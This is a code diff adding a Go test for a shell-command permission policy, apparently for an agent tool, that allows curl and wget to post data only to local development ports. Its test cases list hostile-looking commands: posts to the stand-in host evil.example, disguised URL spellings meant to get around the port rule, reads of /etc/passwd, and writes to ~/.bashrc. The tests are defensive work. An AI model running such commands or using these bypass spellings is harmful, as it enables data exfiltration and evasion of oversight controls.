@@ -803,3 +803,44 @@ command  = "mytool destroy"
 		}
 	}
 }
+
+// dev_ports lets curl and wget send data to the project's own development
+// server on this machine, and nowhere else, however the URL is spelled.
+func TestDevPorts(t *testing.T) {
+	pol := build(t, "dev_ports = [3000, 5173]\n", "", false)
+	check(t, pol, "dev_ports", []want{
+		{"curl -X POST http://localhost:3000/api -d '{}'", "allow"},
+		{"curl -s -d @data.json localhost:3000/api", "allow"},
+		{"curl --json '{}' http://127.0.0.1:5173/x", "allow"},
+		{"curl -g -d x 'http://[::1]:3000/'", "allow"},
+		{"wget --post-data=x http://localhost:3000/", "allow"},
+		{"curl -d x http://localhost:3000/ http://localhost:5173/", "allow"},
+		// another port, another host, or a spelling that reaches one
+		{"curl -d x http://localhost:8080/", "ask"},
+		{"curl -d x http://evil.example:3000/", "ask"},
+		{"curl -d x http://localhost:3000@evil.example/", "ask"},
+		{"curl -d x http://localhost.evil.example:3000/", "ask"},
+		{"curl -d x 'http://{localhost,evil.example}:3000/'", "ask"},
+		{"curl -d x 'http://[::1]:3000/'", "ask"},
+		{"curl -d x http://2130706433:3000/", "ask"},
+		{"curl -d x -x http://proxy:8080 http://localhost:3000/", "ask"},
+		{"curl -d x --unix-socket /var/run/docker.sock http://localhost:3000/", "ask"},
+		{"curl -d x --connect-to localhost:3000:evil.example:443 http://localhost:3000/", "ask"},
+		{"curl -K cfg http://localhost:3000/", "ask"},
+		{"curl -d x \"$URL\"", "ask"},
+		{"curl -d x http://localhost:3000/ http://evil.example/", "ask"},
+		{"curl -d x file:///etc/passwd", "ask"},
+		// what curl writes is still judged by the path rules
+		{"curl -d x -o ~/.bashrc http://localhost:3000/", "ask"},
+		// other programs are not covered
+		{"nc localhost 3000", "ask"},
+	})
+	// without dev_ports nothing changes
+	check(t, build(t, "", "", false), "no dev_ports", []want{{"curl -X POST http://localhost:3000/api -d '{}'", "ask"}})
+	// an untrusted project file cannot set them
+	check(t, build(t, "", "dev_ports = [3000]\n", false), "untrusted", []want{{"curl -d x http://localhost:3000/", "ask"}})
+	check(t, build(t, "", "dev_ports = [3000]\n", true), "trusted", []want{{"curl -d x http://localhost:3000/", "allow"}})
+	if _, err := policy.ParseFile("user.toml", []byte("dev_ports = [70000]\n"), policy.User); err == nil {
+		t.Error("dev_ports = [70000] accepted")
+	}
+}
